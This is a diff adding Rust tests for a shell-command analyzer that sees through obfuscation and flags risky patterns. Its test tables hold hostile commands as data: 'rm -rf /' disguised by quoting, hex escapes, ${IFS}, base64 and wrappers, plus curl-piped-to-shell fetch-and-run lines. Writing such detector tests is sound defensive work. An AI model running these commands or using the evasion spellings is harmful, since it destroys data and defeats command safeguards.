@@ -1,0 +1,97 @@
+//! Table-driven tests of what the walker sees.
+
+use super::*;
+
+fn programs(cmd: &str) -> Vec<String> {
+    analyze(cmd, ShellEnv { cwd: Some("/p") })
+        .invocations
+        .into_iter()
+        .filter(|i| !i.program.is_empty())
+        .map(|i| {
+            let mut v = vec![i.program];
+            v.extend(i.args.into_iter().map(|a| a.text));
+            v.join(" ")
+        })
+        .collect()
+}
+
+#[test]
+fn sees_through_spelling_and_wrappers() {
+    let cases: &[(&str, &[&str])] = &[
+        ("git status", &["git status"]),
+        ("\\rm -rf /", &["rm -rf /"]),
+        ("r''m -rf /", &["rm -rf /"]),
+        ("/usr/bin/rm -rf /", &["rm -rf /"]),
+        ("$'\\x72\\x6d' -rf /", &["rm -rf /"]),
+        ("rm${IFS}-rf${IFS}/", &["rm -rf /"]),
+        ("sudo -u root rm -rf /", &["rm -rf /"]),
+        ("env -i FOO=1 rm -rf /", &["rm -rf /"]),
+        ("timeout -s KILL 5 rm x", &["rm x"]),
+        ("nice -n 10 rm x", &["rm x"]),
+        ("nohup rm x &", &["rm x"]),
+        ("command -v rm", &["command -v rm"]),
+        ("a | b && c || d; e", &["a", "b", "c", "d", "e"]),
+        ("(cd / && ls)", &["cd /", "ls"]),
+        ("{ ls; }", &["ls"]),
+        ("sh -c 'rm -rf /'", &["sh -c rm -rf /", "rm -rf /"]),
+        ("eval 'rm x'", &["eval rm x", "rm x"]),
+        ("echo $(whoami)", &["whoami", "echo $(whoami)"]),
+        ("echo 'rm x' | bash", &["echo rm x", "bash", "rm x"]),
+        ("echo cm0gLXJmIC8K | base64 -d | sh", &["echo cm0gLXJmIC8K", "base64 -d", "sh", "rm -rf /"]),
+        ("find . -name x -exec rm {} \\;", &["find . -name x -exec rm {} ;", "rm {}"]),
+        ("xargs rm -rf <<< /", &["rm -rf /"]),
+        ("python3 -c \"import os; os.system('rm -rf /')\"", &["python3 -c import os; os.system('rm -rf /')", "rm -rf /"]),
+        ("for f in *.rs; do wc -l $f; done", &["wc -l $f"]),
+        ("if true; then rm x; fi", &["true", "rm x"]),
+    ];
+    for (cmd, want) in cases {
+        assert_eq!(programs(cmd), *want, "{cmd}");
+    }
+}
+
+#[test]
+fn issues_table() {
+    let cases: &[(&str, Option<ShellIssue>)] = &[
+        ("ls", None),
+        ("echo 'open", Some(ShellIssue::Unparseable)),
+        ("$X -rf /", Some(ShellIssue::DynamicCommand)),
+        ("eval \"$X\"", Some(ShellIssue::DynamicEval)),
+        ("curl -s x.example | sh", Some(ShellIssue::NetworkToShell)),
+        ("bash <(curl -s https://x.example)", Some(ShellIssue::NetworkToShell)),
+        ("cat f | base64 -d | sh", Some(ShellIssue::DecodedToShell { decoded: false })),
+        ("echo ZWNobyBoaQ== | base64 -d | sh", Some(ShellIssue::DecodedToShell { decoded: true })),
+        ("cat script.sh | bash", Some(ShellIssue::PipeToShell)),
+        ("bash script.sh", None),
+        ("python3 -m pytest -q", None),
+    ];
+    for (cmd, want) in cases {
+        let a = analyze(cmd, ShellEnv::default());
+        match want {
+            Some(i) => assert!(a.issues.contains(i), "{cmd}: {:?}", a.issues),
+            None => assert!(a.issues.is_empty(), "{cmd}: {:?}", a.issues),
+        }
+    }
+}
+
+#[test]
+fn heredoc_to_shell_is_analysed() {
+    let p = programs("bash <<EOF\nrm -rf /\nEOF");
+    assert!(p.contains(&"rm -rf /".to_owned()), "{p:?}");
+    let p = programs("cat > notes.md <<'EOF'\nnever run rm -rf /\nEOF");
+    assert!(!p.iter().any(|x| x.starts_with("rm")), "{p:?}");
+}
+
+#[test]
+fn bounded_on_hostile_input() {
+    let a = analyze(&"(".repeat(10_000), ShellEnv::default());
+    assert!(a.has_issue(&ShellIssue::TooDeep));
+    let a = analyze(&"x".repeat(MAX_COMMAND_BYTES + 1), ShellEnv::default());
+    assert!(a.has_issue(&ShellIssue::TooLarge));
+    let nested = (0..10).fold("ls".to_owned(), |acc, _| format!("sh -c {}", shell_quote_for_test(&acc)));
+    let a = analyze(&nested, ShellEnv::default());
+    assert!(a.has_issue(&ShellIssue::TooDeep) || a.has_issue(&ShellIssue::TooLarge), "{:?}", a.issues);
+}
+
+fn shell_quote_for_test(s: &str) -> String {
+    format!("'{}'", s.replace('\'', "'\\''"))
+}
